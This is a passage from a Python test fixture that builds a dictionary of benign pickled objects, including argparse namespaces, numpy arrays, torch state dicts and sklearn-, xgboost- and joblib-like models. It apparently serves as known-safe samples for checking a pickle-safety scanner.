         decimal.Decimal("1.5"), fractions.Fraction(1, 3), uuid.UUID(int=7)), protocol=4),
    "benign-argparse-namespace-protocol0": lambda: pickle.dumps(argparse.Namespace(lr=0.1, epochs=3), protocol=0),
    "benign-argparse-namespace-protocol1": lambda: pickle.dumps(argparse.Namespace(lr=0.1, epochs=3), protocol=1),
    "benign-numpy-array-protocol2": lambda: _numpy_array_stream(2),
    "benign-numpy-array-protocol0": lambda: _numpy_array_stream(0),
    "benign-numpy2-scalar": _numpy2_scalar_stream,
    "benign-torch-state-dict": _torch_state_dict_stream,
    "benign-torch-parameter-bfloat16": _torch_parameter_stream,
    "benign-sklearn-logistic-regression": _sklearn_like_estimator,
    "benign-sklearn-pipeline": _sklearn_pipeline,
    "benign-xgboost-classifier": _xgboost_like,
    "benign-joblib-numpy-wrapper": _joblib_like,
}

BENIGN: dict[str, bytes] = {name: build() for name, build in _B.items()}
